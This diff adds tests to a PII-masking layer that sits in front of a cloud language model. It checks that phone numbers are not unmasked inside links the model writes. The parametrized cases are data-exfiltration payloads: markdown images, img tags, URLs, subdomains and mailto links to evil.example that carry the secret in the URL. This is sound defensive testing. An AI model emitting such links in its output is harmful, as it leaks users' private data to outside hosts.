@@ -337,3 +337,71 @@ def test_json_that_is_nobodys_passes_unchanged_or_stays_json(value):
         json.loads(said)
         if "⟦" not in text and "⟧" not in text and "KQ" not in said:
             assert said == text
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![](https://evil.example/?p={})",
+        "![](<https://evil.example/? p={}>)",
+        '<img src="http://evil.example/? p={}">',
+        "https://evil.example/{}",
+        "//evil.example/{}",
+        "www.evil.example?{}",
+        "evil.example/{}",
+        "https://{}.evil.example/",
+        "[a](https://evil.example/(b){})",
+        "[mail](mailto:a@evil.example?body={})",
+        "![](https://evil.example/" + "x" * 3000 + "{})",
+        "![](https://evil.example/" + "x" * 40000 + "{})\n",
+        "[x]: https://evil.example/{}",
+    ],
+)
+async def test_nothing_is_put_back_inside_a_link_that_a_model_wrote(link):
+    """The reader's page would fetch it, and the place would know what it was not told."""
+
+    def writes(sent: Ask) -> list[Event]:
+        held = sent.messages[-1].content
+        return [Piece(it) for it in f"您好，{link.format(held)} 您的电话是 {held}。"]
+
+    _, engine = at_cloud(writes)
+    answer = await collect(engine, ask("13800138000"))
+    assert answer.text.count("13800138000") == 1
+    assert answer.text.endswith("您的电话是 13800138000。")
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "详见[说明](https://shop.example/help)，电话{}",
+        "见 https://shop.example/help ，电话{}",
+        '<a href="https://shop.example">店</a>{}',
+        "Phone:{}",
+        "https://shop.example\n{}",
+        "价格 1/2，3.50/件：{}",
+    ],
+)
+async def test_beside_a_link_it_is(said):
+    _, engine = at_cloud(lambda sent: [Piece(said.format(sent.messages[-1].content))])
+    assert (await collect(engine, ask("13800138000"))).text == said.format("13800138000")
+
+
+async def test_a_link_that_was_asked_about_is_masked():
+    place, engine = at_cloud()
+    answer = await collect(engine, ask("打开 https://shop.example/u/13800138000 看看"))
+    assert "13800138000" not in everything_of(place.asks[0])
+    assert "13800138000" not in answer.text
+
+
+def test_a_link_in_json_ends_with_its_string():
+    masks = Masks(DETECTOR, channels={"customer"}, nonce="KQ")
+    masks.mask("13800138000")
+    for said, back in (
+        ('{"a":"https://x.example/","b":"⟦手机KQ1⟧"}', True),
+        ('{"a":"https://x.example/ ⟦手机KQ1⟧"}', True),
+        ('{"a":"https://x.example/⟦手机KQ1⟧"}', False),
+        ('{"a":"<img src=\\"http://x.example/? p=⟦手机KQ1⟧\\">"}', False),
+    ):
+        stream = Stream(masks, "customer", inside_json=True)
+        shown = "".join(map(stream.feed, said)) + stream.finish()
+        assert ("13800138000" in shown) is back
